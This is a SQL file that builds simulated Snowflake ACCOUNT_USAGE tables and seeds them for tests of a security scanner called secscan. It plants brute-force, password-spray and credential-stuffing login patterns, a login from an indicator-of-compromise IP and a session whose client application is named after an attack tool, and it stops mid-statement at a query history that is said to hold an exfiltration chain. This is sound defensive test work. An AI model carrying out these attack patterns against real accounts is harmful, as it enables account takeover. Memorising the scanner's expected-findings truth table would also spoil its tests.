-- 20_security: the ACCOUNT_USAGE views secscan reads, and a seed.
--
-- Seeding function (used by tests and scripts/demo):
--
--   SELECT account_usage.seed_security(p_now timestamptz);
--
-- empties the security views below and plants one known subject per
-- secscan rule (and near misses that must not fire) plus clean users, grants, logins and queries, all relative
-- to p_now (pass the FLAKEGUARD_NOW instant).  It also fills
-- public.seed_security_truth(rule, subject): the findings a scan at p_now
-- with default [secscan] settings and the shipped IoC list must report,
-- no more and no less.  Returns the number of truth rows.
--
-- Columns follow Snowflake's ACCOUNT_USAGE documentation (lower-case
-- identifiers; TIMESTAMP_LTZ as timestamptz; NUMBER as bigint/numeric;
-- VARIANT as text holding JSON).  Only the columns secscan or a reader of
-- these views is likely to need are kept.
--
-- Simulator aid: account_usage.account_parameters(key, value, level) holds
-- what SHOW PARAMETERS IN ACCOUNT returns on Snowflake.  Snowflake has no
-- such view; secscan reads it only when it is present (the simulator cannot
-- run SHOW commands).

-- Snowflake type names used in CAST(? AS ...) by portable extraction SQL.
DO $$
BEGIN
	IF NOT EXISTS (SELECT 1 FROM pg_type t JOIN pg_namespace n ON n.oid = t.typnamespace
		       WHERE n.nspname = 'public' AND t.typname = 'timestamp_ltz') THEN
		CREATE DOMAIN public.timestamp_ltz AS timestamptz;
	END IF;
	IF NOT EXISTS (SELECT 1 FROM pg_type t JOIN pg_namespace n ON n.oid = t.typnamespace
		       WHERE n.nspname = 'public' AND t.typname = 'timestamp_tz') THEN
		CREATE DOMAIN public.timestamp_tz AS timestamptz;
	END IF;
END $$;

CREATE TABLE account_usage.users (
    user_id                bigint,
    name                   text,
    created_on             timestamptz,
    deleted_on             timestamptz,
    login_name             text,
    display_name           text,
    first_name             text,
    last_name              text,
    email                  text,
    must_change_password   boolean,
    has_password           boolean,
    comment                text,
    disabled               boolean,
    snowflake_lock         boolean,
    default_warehouse      text,
    default_namespace      text,
    default_role           text,
    ext_authn_duo          boolean,
    ext_authn_uid          text,
    has_mfa                boolean,
    bypass_mfa_until       timestamptz,
    last_success_login     timestamptz,
    expires_at             timestamptz,
    locked_until_time      timestamptz,
    has_rsa_public_key     boolean,
    password_last_set_time timestamptz,
    owner                  text,
    default_secondary_role text,
    type                   text
);

CREATE TABLE account_usage.login_history (
    event_id                     bigint,
    event_timestamp              timestamptz,
    event_type                   text,
    user_name                    text,
    client_ip                    text,
    reported_client_type         text,
    reported_client_version      text,
    first_authentication_factor  text,
    second_authentication_factor text,
    is_success                   text,
    error_code                   bigint,
    error_message                text,
    related_event_id             bigint,
    connection                   text
);
CREATE INDEX ON account_usage.login_history (event_timestamp);

CREATE TABLE account_usage.grants_to_users (
    created_on   timestamptz,
    deleted_on   timestamptz,
    role         text,
    granted_to   text,
    grantee_name text,
    granted_by   text
);

CREATE TABLE account_usage.grants_to_roles (
    created_on    timestamptz,
    modified_on   timestamptz,
    privilege     text,
    granted_on    text,
    name          text,
    table_catalog text,
    table_schema  text,
    granted_to    text,
    grantee_name  text,
    grant_option  boolean,
    granted_by    text,
    deleted_on    timestamptz
);

CREATE TABLE account_usage.roles (
    created_on timestamptz,
    deleted_on timestamptz,
    name       text,
    comment    text,
    owner      text,
    role_id    bigint,
    role_type  text
);

CREATE TABLE account_usage.sessions (
    session_id                 bigint,
    created_on                 timestamptz,
    user_name                  text,
    authentication_method      text,
    login_event_id             bigint,
    client_application_version text,
    client_application_id      text,
    client_environment         text,
    client_build_id            text,
    client_version             text,
    closed_reason              text
);
CREATE INDEX ON account_usage.sessions (created_on);

CREATE TABLE account_usage.network_policies (
    id                        bigint,
    name                      text,
    schema_id                 bigint,
    schema                    text,
    database_id               bigint,
    database                  text,
    owner                     text,
    owner_role_type           text,
    allowed_ip_list           text,
    blocked_ip_list           text,
    allowed_network_rule_list text,
    blocked_network_rule_list text,
    created                   timestamptz,
    last_altered              timestamptz,
    deleted                   timestamptz,
    comment                   text
);

CREATE TABLE account_usage.policy_references (
    policy_db            text,
    policy_schema        text,
    policy_id            bigint,
    policy_name          text,
    policy_kind          text,
    ref_database_name    text,
    ref_schema_name      text,
    ref_entity_name      text,
    ref_entity_domain    text,
    ref_column_name      text,
    ref_arg_column_names text,
    tag_database         text,
    tag_schema           text,
    tag_name             text,
    policy_status        text
);

CREATE TABLE account_usage.password_policies (
    id                            bigint,
    name                          text,
    schema_id                     bigint,
    schema                        text,
    database_id                   bigint,
    database                      text,
    owner                         text,
    owner_role_type               text,
    password_min_length           bigint,
    password_max_length           bigint,
    password_min_upper_case_chars bigint,
    password_min_lower_case_chars bigint,
    password_min_numeric_chars    bigint,
    password_min_special_chars    bigint,
    password_min_age_days         bigint,
    password_max_age_days         bigint,
    password_max_retries          bigint,
    password_lockout_time_mins    bigint,
    password_history              bigint,
    comment                       text,
    created                       timestamptz,
    last_altered                  timestamptz,
    deleted                       timestamptz
);

CREATE TABLE account_usage.query_history (
    query_id           text,
    query_text         text,
    database_name      text,
    schema_name        text,
    query_type         text,
    session_id         bigint,
    user_name          text,
    role_name          text,
    warehouse_name     text,
    execution_status   text,
    error_code         text,
    error_message      text,
    start_time         timestamptz,
    end_time           timestamptz,
    total_elapsed_time bigint,
    rows_produced      bigint
);
CREATE INDEX ON account_usage.query_history (start_time);

CREATE TABLE account_usage.session_policies (
    id                           bigint,
    name                         text,
    schema_id                    bigint,
    schema                       text,
    database_id                  bigint,
    database                     text,
    owner                        text,
    owner_role_type              text,
    session_idle_timeout_mins    bigint,
    session_ui_idle_timeout_mins bigint,
    comment                      text,
    created                      timestamptz,
    last_altered                 timestamptz,
    deleted                      timestamptz
);

-- Simulator aid standing in for SHOW PARAMETERS IN ACCOUNT (see above).
CREATE TABLE account_usage.account_parameters (
    key   text,
    value text,
    level text
);

CREATE TABLE public.seed_security_truth (
    rule    text NOT NULL,
    subject text NOT NULL
);

CREATE FUNCTION account_usage.seed_security(p_now timestamptz)
RETURNS bigint LANGUAGE plpgsql AS $$
DECLARE
	d interval := interval '1 day';
	n bigint;
BEGIN
	TRUNCATE account_usage.users, account_usage.login_history, account_usage.grants_to_users,
		 account_usage.grants_to_roles, account_usage.roles, account_usage.sessions,
		 account_usage.network_policies, account_usage.policy_references,
		 account_usage.password_policies, account_usage.query_history,
		 account_usage.account_parameters, account_usage.session_policies, public.seed_security_truth;

	-- Users: (name, type, has_password, has_mfa, has_key, email, default_role,
	-- last login age in days (NULL: never), created age in days, disabled).
	INSERT INTO account_usage.users (user_id, name, login_name, created_on, email, has_password,
					 has_mfa, ext_authn_duo, disabled, default_role, last_success_login,
					 has_rsa_public_key, type, owner)
	SELECT row_number() OVER (), u.name, u.name, p_now - u.created * d, u.email, u.pwd, u.mfa, false,
	       u.disabled, u.role, p_now - u.login * d, u.rsa, u.type, 'USERADMIN'
	FROM (VALUES
		-- clean users
		('CLEAN_ANNA', 'PERSON', true, true, false, 'anna@example.com', 'ANALYST', 1, 400, false),
		('CLEAN_BEN', NULL, false, false, false, 'ben@example.com', 'ANALYST', 2, 400, false),
		('CLEAN_SVC', 'SERVICE', false, false, true, NULL, 'ETL', 1, 400, false),
		('OLD_DISABLED', 'PERSON', true, false, false, NULL, 'ANALYST', 500, 900, true),
		('STUFFED_USER', 'PERSON', true, true, false, 'stuffed@example.com', 'ANALYST', 1, 300, false),
		('IOC_IVY', 'PERSON', true, true, false, 'ivy@example.com', 'ANALYST', 1, 300, false),
		('APP_VICTIM', 'PERSON', true, true, false, 'victim@example.com', 'ANALYST', 1, 300, false),
		('PWLOGIN_PAT', 'PERSON', true, true, false, 'pat@example.com', 'ANALYST', 1, 300, false),
		('EXFIL_EVE', 'PERSON', true, true, false, 'eve@example.com', 'ANALYST', 1, 300, false),
		-- admins (four holders: more than max_admins = 3)
		('ADMIN_ALICE', 'PERSON', true, true, false, 'alice@example.com', 'SYSADMIN', 1, 700, false),
		('SECADMIN_BOB', 'PERSON', true, true, false, 'bob@example.com', 'SECURITYADMIN', 1, 700, false),
		('DEEP_ADMIN_CAROL', 'PERSON', false, false, false, NULL, 'ROLE_OPS', 1, 700, false),
		('ADMIN_NOMFA_DAVE', 'PERSON', true, false, false, 'dave@example.com', 'SYSADMIN', 1, 700, false),
		-- one subject per identity rule
		('NOMFA_NICK', 'PERSON', true, false, false, 'nick@example.com', 'ANALYST', 1, 300, false),
		('SSO_SUE', 'PERSON', true, true, false, 'sue@example.com', 'ANALYST', 1, 300, false),
		('STALE_STAN', 'PERSON', false, false, false, 'stan@example.com', 'ANALYST', 200, 400, false),
		('NEVER_NORA', 'PERSON', false, false, false, 'nora@example.com', 'ANALYST', NULL, 120, false),
		('SVC_PWD', 'SERVICE', true, false, true, NULL, 'ETL', 1, 300, false),
		('SVC_LEGACY', 'LEGACY_SERVICE', false, false, true, NULL, 'ETL', 1, 300, false),
		('SVC_OLDKEY', 'SERVICE', false, false, true, NULL, 'ETL', 1, 300, false),
		('SVC_NOPOLICY', 'SERVICE', false, false, true, NULL, 'ETL', 1, 300, false),
		('PWOLD_OLGA', 'PERSON', true, true, false, 'olga@example.com', 'ANALYST', 1, 300, false),
		('PWOLD_NEAR', 'PERSON', true, true, false, 'near@example.com', 'ANALYST', 1, 300, false),
		('KEY_KIM', 'PERSON', true, true, true, 'kim@example.com', 'ANALYST', 1, 300, false),
		('KEY_KAI', 'PERSON', true, true, true, 'kai@example.com', 'ANALYST', 1, 300, false),
		('DRIVER_DAN', NULL, false, false, true, 'dan@example.com', 'ANALYST', 1, 300, false),
		('MIXED_MIA', 'PERSON', false, false, true, 'mia@example.com', 'ANALYST', 1, 300, false),
		('FEW_FRED', 'PERSON', false, false, true, 'fred@example.com', 'ANALYST', 1, 300, false)
	) AS u(name, type, pwd, mfa, rsa, email, role, login, created, disabled);
	-- Passwords set 30 days ago, but: PWOLD_OLGA past 90 days, PWOLD_NEAR
	-- just under; ADMIN_NOMFA_DAVE past the admins' 365, ADMIN_ALICE under
	-- it; disabled OLD_DISABLED and password-less CLEAN_BEN not judged.
	UPDATE account_usage.users SET password_last_set_time = p_now - CASE name
		WHEN 'PWOLD_OLGA' THEN 120 WHEN 'PWOLD_NEAR' THEN 85 WHEN 'ADMIN_NOMFA_DAVE' THEN 400
		WHEN 'ADMIN_ALICE' THEN 200 WHEN 'OLD_DISABLED' THEN 500 WHEN 'CLEAN_BEN' THEN 500 ELSE 30 END * d
	WHERE has_password OR name = 'CLEAN_BEN';
	INSERT INTO account_usage.users (user_id, name, login_name, created_on, email, has_password, has_mfa,
					 disabled, default_role, last_success_login, bypass_mfa_until, type)
	VALUES (900, 'BYPASS_BEA', 'BYPASS_BEA', p_now - 300 * d, 'bea@example.com', true, true, false, 'ANALYST',
		p_now - 1 * d, p_now + 1 * d, 'PERSON'),
	       (901, 'BYPASS_OVER', 'BYPASS_OVER', p_now - 300 * d, 'over@example.com', true, true, false, 'ANALYST',
		p_now - 1 * d, p_now - 1 * d, 'PERSON');
	-- a deleted user is out of scope of every rule
	INSERT INTO account_usage.users (user_id, name, created_on, deleted_on, has_password, has_mfa,
					 disabled, type)
	VALUES (999, 'GONE_GREG', p_now - 800 * d, p_now - 10 * d, true, false, false, 'PERSON');

	INSERT INTO account_usage.roles (created_on, name, owner, role_id, role_type)
	SELECT p_now - 900 * d, r, 'USERADMIN', row_number() OVER (), 'ROLE'
	FROM unnest(ARRAY['ACCOUNTADMIN', 'SECURITYADMIN', 'USERADMIN', 'SYSADMIN', 'PUBLIC',
			  'ANALYST', 'ETL', 'ROLE_OPS', 'ROLE_PLATFORM', 'ROLE_HELPDESK']) AS r;

	-- Role hierarchy: the system roles, ANALYST/ETL under SYSADMIN, and
	-- ACCOUNTADMIN nested into a custom role two levels down.
	INSERT INTO account_usage.grants_to_roles (created_on, privilege, granted_on, name, granted_to,
						   grantee_name, granted_by)
	VALUES (p_now - 900 * d, 'USAGE', 'ROLE', 'SECURITYADMIN', 'ROLE', 'ACCOUNTADMIN', 'ACCOUNTADMIN'),
	       (p_now - 900 * d, 'USAGE', 'ROLE', 'SYSADMIN', 'ROLE', 'ACCOUNTADMIN', 'ACCOUNTADMIN'),
	       (p_now - 900 * d, 'USAGE', 'ROLE', 'USERADMIN', 'ROLE', 'SECURITYADMIN', 'ACCOUNTADMIN'),
	       (p_now - 900 * d, 'USAGE', 'ROLE', 'ANALYST', 'ROLE', 'SYSADMIN', 'SYSADMIN'),
	       (p_now - 900 * d, 'USAGE', 'ROLE', 'ETL', 'ROLE', 'SYSADMIN', 'SYSADMIN'),
	       (p_now - 400 * d, 'USAGE', 'ROLE', 'ACCOUNTADMIN', 'ROLE', 'ROLE_PLATFORM', 'ACCOUNTADMIN'),
	       (p_now - 400 * d, 'USAGE', 'ROLE', 'ROLE_PLATFORM', 'ROLE', 'ROLE_OPS', 'SECURITYADMIN'),
	       (p_now - 900 * d, 'MANAGE GRANTS', 'ACCOUNT', 'SNOWFLAKE', 'ROLE', 'SECURITYADMIN', 'ACCOUNTADMIN'),
	       (p_now - 3 * interval '1 hour', 'MANAGE GRANTS', 'ACCOUNT', 'SNOWFLAKE', 'ROLE', 'ROLE_HELPDESK', 'SECURITYADMIN'),
	       (p_now - 300 * d, 'SELECT', 'TABLE', 'ORDERS', 'ROLE', 'ANALYST', 'SYSADMIN');
	INSERT INTO account_usage.grants_to_roles (created_on, privilege, granted_on, name, table_catalog,
						   table_schema, granted_to, grantee_name, granted_by)
	VALUES (p_now - 100 * d, 'OWNERSHIP', 'TASK', 'NIGHTLY_PURGE', 'PROD', 'OPS', 'ROLE', 'ACCOUNTADMIN', 'ACCOUNTADMIN'),
	       (p_now - 100 * d, 'OWNERSHIP', 'PROCEDURE', 'LOAD_ORDERS', 'PROD', 'ETL', 'ROLE', 'SYSADMIN', 'SYSADMIN'),
	       (p_now - 100 * d, 'OWNERSHIP', 'TASK', 'OLD_TASK', 'PROD', 'OPS', 'ROLE', 'SECURITYADMIN', 'SECURITYADMIN');
	INSERT INTO account_usage.grants_to_roles (created_on, privilege, granted_on, name, table_catalog,
						   table_schema, granted_to, grantee_name, granted_by, deleted_on)
	VALUES (p_now - 30 * d, 'SELECT', 'TABLE', 'CUSTOMERS', 'PROD', 'SALES', 'ROLE', 'PUBLIC', 'SYSADMIN', NULL),
	       (p_now - 90 * d, 'SELECT', 'TABLE', 'ORDERS', 'PROD', 'SALES', 'ROLE', 'PUBLIC', 'SYSADMIN',
		p_now - 60 * d);
	UPDATE account_usage.grants_to_roles SET deleted_on = p_now - 50 * d WHERE name = 'OLD_TASK';

	INSERT INTO account_usage.grants_to_users (created_on, role, granted_to, grantee_name, granted_by)
	VALUES (p_now - 2 * interval '1 hour', 'ACCOUNTADMIN', 'USER', 'ADMIN_ALICE', 'ACCOUNTADMIN'),
	       (p_now - 600 * d, 'SECURITYADMIN', 'USER', 'SECADMIN_BOB', 'ACCOUNTADMIN'),
	       (p_now - 600 * d, 'ROLE_OPS', 'USER', 'DEEP_ADMIN_CAROL', 'SECURITYADMIN'),
	       (p_now - 600 * d, 'ACCOUNTADMIN', 'USER', 'ADMIN_NOMFA_DAVE', 'ACCOUNTADMIN'),
	       (p_now - 600 * d, 'SYSADMIN', 'USER', 'ADMIN_ALICE', 'ACCOUNTADMIN'),
	       (p_now - 300 * d, 'ETL', 'USER', 'CLEAN_SVC', 'SYSADMIN'),
	       (p_now - 300 * d, 'ANALYST', 'USER', 'CLEAN_ANNA', 'SYSADMIN'),
	       (p_now - 300 * d, 'ANALYST', 'USER', 'NOMFA_NICK', 'SYSADMIN');
	-- a revoked admin grant no longer counts
	INSERT INTO account_usage.grants_to_users (created_on, deleted_on, role, granted_to, grantee_name, granted_by)
	VALUES (p_now - 600 * d, p_now - 100 * d, 'ACCOUNTADMIN', 'USER', 'CLEAN_ANNA', 'ACCOUNTADMIN');

	-- Network policies: a tight one on every service user but SVC_NOPOLICY,
	-- an open one attached nowhere, none on the account.
	INSERT INTO account_usage.network_policies (id, name, owner, allowed_ip_list, blocked_ip_list, created, last_altered)
	VALUES (1, 'SVC_POLICY', 'SECURITYADMIN', '10.0.0.0/8,192.168.1.10', NULL, p_now - 300 * d, p_now - 300 * d),
	       (2, 'OPEN_POLICY', 'SECURITYADMIN', '0.0.0.0/0', NULL, p_now - 5 * interval '1 hour', p_now - 5 * interval '1 hour');
	INSERT INTO account_usage.network_policies (id, name, owner, allowed_ip_list, created, deleted)
	VALUES (3, 'DROPPED_OPEN', 'SECURITYADMIN', '0.0.0.0/0', p_now - 300 * d, p_now - 200 * d);
	INSERT INTO account_usage.policy_references (policy_id, policy_name, policy_kind, ref_entity_name,
						     ref_entity_domain, policy_status)
	SELECT 1, 'SVC_POLICY', 'NETWORK_POLICY', u, 'USER', 'ACTIVE'
	FROM unnest(ARRAY['CLEAN_SVC', 'SVC_PWD', 'SVC_LEGACY', 'SVC_OLDKEY']) AS u;
	INSERT INTO account_usage.password_policies (id, name, schema, database, owner, password_min_length,
						     password_max_length, created, last_altered)
	VALUES (10, 'ACCOUNT_PW', 'POLICIES', 'SECURITY', 'SECURITYADMIN', 8, 256, p_now - 300 * d, p_now - 300 * d),
	       (11, 'UNUSED_PW', 'POLICIES', 'SECURITY', 'SECURITYADMIN', 6, 256, p_now - 300 * d, p_now - 300 * d);
	INSERT INTO account_usage.policy_references (policy_db, policy_schema, policy_id, policy_name, policy_kind,
						     ref_entity_name, ref_entity_domain, policy_status)
	VALUES ('SECURITY', 'POLICIES', 10, 'ACCOUNT_PW', 'PASSWORD_POLICY', 'ACCOUNT', 'ACCOUNT', 'ACTIVE');

	-- Session policies: the account's idles 30 minutes; ADMIN_ALICE and
	-- SECADMIN_BOB have their own of 15 (the limit), ADMIN_NOMFA_DAVE one of
	-- 60 that wins over the account's; DEEP_ADMIN_CAROL's own was dropped.
	INSERT INTO account_usage.session_policies (id, name, schema, database, owner, session_idle_timeout_mins,
						    session_ui_idle_timeout_mins, created, last_altered, deleted)
	VALUES (20, 'ACCOUNT_SP', 'POLICIES', 'SECURITY', 'SECURITYADMIN', 30, 30, p_now - 300 * d, p_now - 300 * d, NULL),
	       (21, 'ADMIN_SP', 'POLICIES', 'SECURITY', 'SECURITYADMIN', 15, 10, p_now - 300 * d, p_now - 300 * d, NULL),
	       (22, 'LAX_SP', 'POLICIES', 'SECURITY', 'SECURITYADMIN', 60, 60, p_now - 300 * d, p_now - 300 * d, NULL),
	       (23, 'DROPPED_SP', 'POLICIES', 'SECURITY', 'SECURITYADMIN', 5, 5, p_now - 300 * d, p_now - 300 * d,
		p_now - 20 * d);
	INSERT INTO account_usage.policy_references (policy_db, policy_schema, policy_id, policy_name, policy_kind,
						     ref_entity_name, ref_entity_domain, policy_status)
	VALUES ('SECURITY', 'POLICIES', 20, 'ACCOUNT_SP', 'SESSION_POLICY', 'ACCOUNT', 'ACCOUNT', 'ACTIVE'),
	       ('SECURITY', 'POLICIES', 21, 'ADMIN_SP', 'SESSION_POLICY', 'ADMIN_ALICE', 'USER', 'ACTIVE'),
	       ('SECURITY', 'POLICIES', 21, 'ADMIN_SP', 'SESSION_POLICY', 'SECADMIN_BOB', 'USER', 'ACTIVE'),
	       ('SECURITY', 'POLICIES', 22, 'LAX_SP', 'SESSION_POLICY', 'ADMIN_NOMFA_DAVE', 'USER', 'ACTIVE'),
	       ('SECURITY', 'POLICIES', 23, 'DROPPED_SP', 'SESSION_POLICY', 'DEEP_ADMIN_CAROL', 'USER', 'ACTIVE');

	INSERT INTO account_usage.account_parameters (key, value, level)
	VALUES ('PERIODIC_DATA_REKEYING', 'false', ''),
	       ('PREVENT_UNLOAD_TO_INLINE_URL', 'true', 'ACCOUNT'),
	       ('REQUIRE_STORAGE_INTEGRATION_FOR_STAGE_CREATION', 'true', 'ACCOUNT'),
	       ('REQUIRE_STORAGE_INTEGRATION_FOR_STAGE_OPERATION', 'true', 'ACCOUNT'),
	       ('MIN_DATA_RETENTION_TIME_IN_DAYS', '1', 'ACCOUNT'),
	       ('NETWORK_POLICY', '', '');

	-- Logins.  Clean: successful logins with a second factor, SSO, key pair,
	-- a few stray failures, and an elided-overflow marker.
	INSERT INTO account_usage.login_history (event_id, event_timestamp, event_type, user_name, client_ip,
						 reported_client_type, first_authentication_factor,
						 second_authentication_factor, is_success, error_code, error_message)
	VALUES (1, p_now - 1 * d, 'LOGIN', 'CLEAN_ANNA', '10.1.1.1', 'SNOWFLAKE_UI', 'PASSWORD', 'MFA_TOKEN', 'YES', NULL, NULL),
	       (2, p_now - 2 * d, 'LOGIN', 'CLEAN_BEN', '10.1.1.2', 'SNOWFLAKE_UI', 'SAML2_ASSERTION', NULL, 'YES', NULL, NULL),
	       (3, p_now - 1 * d, 'LOGIN', 'CLEAN_SVC', '10.2.2.2', 'JDBC_DRIVER', 'RSA_KEYPAIR', NULL, 'YES', NULL, NULL),
	       (4, p_now - 1 * d, 'LOGIN', 'CLEAN_ANNA', '10.1.1.1', 'SNOWFLAKE_UI', 'PASSWORD', NULL, 'NO', 390100, 'INCORRECT_USERNAME_PASSWORD'),
	       (5, p_now - 1 * d, 'LOGIN', NULL, '10.9.9.9', 'OTHER', NULL, NULL, 'NO', 390156, 'OVERFLOW_FAILURE_EVENTS_ELIDED'),
	       (6, p_now - 5 * d, 'LOGIN', 'SSO_SUE', '10.1.1.3', 'SNOWFLAKE_UI', 'SAML2_ASSERTION', NULL, 'YES', NULL, NULL),
	       (7, p_now - 1 * d, 'LOGIN', 'IOC_IVY', '102.165.16.161', 'JDBC_DRIVER', 'PASSWORD', 'DUO_PUSH', 'YES', NULL, NULL),
	       (8, p_now - 1 * d, 'LOGIN', 'PWLOGIN_PAT', '10.1.1.4', 'PYTHON_DRIVER', 'PASSWORD', NULL, 'YES', NULL, NULL),
	       (9, p_now - 1 * d, 'LOGIN', 'APP_VICTIM', '10.1.1.5', 'JDBC_DRIVER', 'PASSWORD', 'DUO_PUSH', 'YES', NULL, NULL);
	-- BURST_BILL: 12 failures in 44 minutes from 12 addresses.
	INSERT INTO account_usage.login_history (event_id, event_timestamp, event_type, user_name, client_ip,
						 reported_client_type, first_authentication_factor,
						 is_success, error_code, error_message)
	SELECT 100 + i, p_now - 2 * d + i * interval '4 minutes', 'LOGIN', 'BURST_BILL', '192.0.2.' || i,
	       'JDBC_DRIVER', 'PASSWORD', 'NO', 390100, 'INCORRECT_USERNAME_PASSWORD'
	FROM generate_series(1, 12) AS i;
	-- 198.51.100.77 sprays six users, two tries each, within 30 minutes.
	INSERT INTO account_usage.login_history (event_id, event_timestamp, event_type, user_name, client_ip,
						 reported_client_type, first_authentication_factor,
						 is_success, error_code, error_message)
	SELECT 200 + i, p_now - 3 * d + i * interval '2 minutes', 'LOGIN', 'SPRAY_' || (i % 6),
	       '198.51.100.77', 'OTHER', 'PASSWORD', 'NO', 390100, 'INCORRECT_USERNAME_PASSWORD'
	FROM generate_series(1, 12) AS i;
	-- STUFFED_USER: ten failures from one address, then a success from it.
	INSERT INTO account_usage.login_history (event_id, event_timestamp, event_type, user_name, client_ip,
						 reported_client_type, first_authentication_factor,
						 is_success, error_code, error_message)
	SELECT 300 + i, p_now - 4 * d + i * interval '2 minutes', 'LOGIN', 'STUFFED_USER', '203.0.113.50',
	       'OTHER', 'PASSWORD', 'NO', 390100, 'INCORRECT_USERNAME_PASSWORD'
	FROM generate_series(1, 10) AS i;
	INSERT INTO account_usage.login_history (event_id, event_timestamp, event_type, user_name, client_ip,
						 reported_client_type, first_authentication_factor,
						 second_authentication_factor, is_success)
	VALUES (311, p_now - 4 * d + interval '3 hours', 'LOGIN', 'STUFFED_USER', '203.0.113.50', 'OTHER',
		'PASSWORD', 'DUO_PUSH', 'YES');

	-- KEY_KIM (RSA key) signs in with a password; KEY_KAI only failed to,
	-- or did so before the threat window.  SSO_SUE also signs in with a
	-- password; CLEAN_BEN (SSO) only failed to.  DRIVER_DAN (type NULL) signs
	-- in only from drivers, 6 times in 30 days; MIXED_MIA also once from
	-- the web interface; FEW_FRED 4 times in 30 days (2 more before);
	-- service user CLEAN_SVC from drivers only.
	INSERT INTO account_usage.login_history (event_id, event_timestamp, event_type, user_name, client_ip,
						 reported_client_type, first_authentication_factor,
						 second_authentication_factor, is_success, error_code, error_message)
	VALUES (401, p_now - 1 * d, 'LOGIN', 'KEY_KIM', '10.3.3.1', 'SNOWFLAKE_UI', 'PASSWORD', 'MFA_TOKEN', 'YES', NULL, NULL),
	       (402, p_now - 2 * d, 'LOGIN', 'KEY_KIM', '10.3.3.1', 'PYTHON_DRIVER', 'RSA_KEYPAIR', NULL, 'YES', NULL, NULL),
	       (403, p_now - 1 * d, 'LOGIN', 'KEY_KAI', '10.3.3.2', 'SNOWFLAKE_UI', 'PASSWORD', NULL, 'NO', 390100, 'INCORRECT_USERNAME_PASSWORD'),
	       (404, p_now - 10 * d, 'LOGIN', 'KEY_KAI', '10.3.3.2', 'SNOWFLAKE_UI', 'PASSWORD', 'MFA_TOKEN', 'YES', NULL, NULL),
	       (405, p_now - 1 * d, 'LOGIN', 'KEY_KAI', '10.3.3.2', 'JDBC_DRIVER', 'RSA_KEYPAIR', NULL, 'YES', NULL, NULL),
	       (406, p_now - 2 * d, 'LOGIN', 'SSO_SUE', '10.1.1.3', 'SNOWFLAKE_UI', 'PASSWORD', 'MFA_TOKEN', 'YES', NULL, NULL),
	       (407, p_now - 1 * d, 'LOGIN', 'CLEAN_BEN', '10.1.1.2', 'SNOWFLAKE_UI', 'PASSWORD', NULL, 'NO', 390100, 'INCORRECT_USERNAME_PASSWORD'),
	       (429, p_now - 3 * d, 'LOGIN', 'MIXED_MIA', '10.3.3.4', 'SNOWFLAKE_UI', 'SAML2_ASSERTION', NULL, 'YES', NULL, NULL);
	INSERT INTO account_usage.login_history (event_id, event_timestamp, event_type, user_name, client_ip,
						 reported_client_type, first_authentication_factor, is_success)
	SELECT base + i, p_now - i * step * d, 'LOGIN', who, '10.3.4.' || i,
	       CASE i % 3 WHEN 0 THEN 'PYTHON_DRIVER' WHEN 1 THEN 'GO_DRIVER' ELSE 'JDBC_DRIVER' END, 'RSA_KEYPAIR', 'YES'
	FROM (VALUES (410, 'DRIVER_DAN', 6, 4), (420, 'MIXED_MIA', 6, 4), (430, 'FEW_FRED', 4, 6),
		     (440, 'CLEAN_SVC', 5, 5)) AS w(base, who, cnt, step),
	     generate_series(1, w.cnt) AS i;
	INSERT INTO account_usage.login_history (event_id, event_timestamp, event_type, user_name, client_ip,
						 reported_client_type, first_authentication_factor, is_success)
	VALUES (435, p_now - 40 * d, 'LOGIN', 'FEW_FRED', '10.3.4.9', 'JDBC_DRIVER', 'RSA_KEYPAIR', 'YES'),
	       (436, p_now - 50 * d, 'LOGIN', 'FEW_FRED', '10.3.4.9', 'JDBC_DRIVER', 'RSA_KEYPAIR', 'YES');

	INSERT INTO account_usage.sessions (session_id, created_on, user_name, authentication_method,
					    login_event_id, client_application_id, client_application_version,
					    client_environment)
	VALUES (8001, p_now - 1 * d, 'CLEAN_ANNA', 'Password', 1, 'Snowflake UI', '1.0',
		'{"APPLICATION":"Snowflake UI","OS":"Mac OS X"}'),
	       (8002, p_now - 1 * d, 'APP_VICTIM', 'Password', 9, 'JDBC 3.13.30', '3.13.30',
		'{"APPLICATION":"rapeflake","OS":"Linux"}'),
	       (8003, p_now - 1 * d, 'CLEAN_SVC', 'RSA keypair', 3, 'JDBC 3.14.0', '3.14.0',
		'{"APPLICATION":"DBeaver_DBeaverCommunity","OS":"Linux"}');
	-- Client applications: a baseline from 80 days back; Go appears 3 days
	-- ago (rare), a new PythonConnector version is not a new application,
	-- SnowSQL appeared 12 days ago (before the last 10).
	INSERT INTO account_usage.sessions (session_id, created_on, user_name, authentication_method,
					    login_event_id, client_application_id, client_application_version,
					    client_environment)
	VALUES (8010, p_now - 80 * d, 'CLEAN_ANNA', 'Password', NULL, 'Snowflake UI', '1.0', '{"OS":"Mac OS X"}'),
	       (8011, p_now - 60 * d, 'CLEAN_SVC', 'RSA keypair', NULL, 'JDBC 3.12.0', '3.12.0', '{"OS":"Linux"}'),
	       (8012, p_now - 45 * d, 'DRIVER_DAN', 'RSA keypair', NULL, 'PythonConnector 3.0.0', '3.0.0', '{"OS":"Linux"}'),
	       (8013, p_now - 2 * d, 'DRIVER_DAN', 'RSA keypair', 413, 'PythonConnector 3.12.1', '3.12.1', '{"OS":"Linux"}'),
	       (8014, p_now - 3 * d, 'KEY_KIM', 'RSA keypair', 402, 'Go 1.6.0', '1.6.0', '{"OS":"Linux"}'),
	       (8015, p_now - 12 * d, 'CLEAN_ANNA', 'Password', NULL, 'SnowSQL 1.2.32', '1.2.32', '{"OS":"Linux"}');

	-- Query history: security DDL, an exfiltration chain, noise.
	INSERT INTO account_usage.query_history (query_id, query_text, query_type, session_id, user_name,
						 role_name, execution_status, start_time, end_time)
	VALUES ('q-key-clean', 'ALTER USER CLEAN_SVC SET RSA_PUBLIC_KEY = ''MIIBIjANBgkq...''', 'ALTER_USER',
		7001, 'SECADMIN_BOB', 'SECURITYADMIN', 'SUCCESS', p_now - 30 * d, p_now - 30 * d),
	       ('q-key-old', 'alter user "SVC_OLDKEY" set rsa_public_key=''MIIBIjANBgkq...''', 'ALTER_USER',
		7002, 'SECADMIN_BOB', 'SECURITYADMIN', 'SUCCESS', p_now - 200 * d, p_now - 200 * d),
	       ('q-netpol', 'CREATE NETWORK POLICY OPEN_POLICY ALLOWED_IP_LIST = (''0.0.0.0/0'')',
		'CREATE_NETWORK_POLICY', 7003, 'SECADMIN_BOB', 'SECURITYADMIN', 'SUCCESS',
		p_now - 5 * interval '1 hour', p_now - 5 * interval '1 hour'),
	       ('q-secint', 'ALTER SECURITY INTEGRATION OKTA_SSO SET ENABLED = FALSE', 'ALTER',
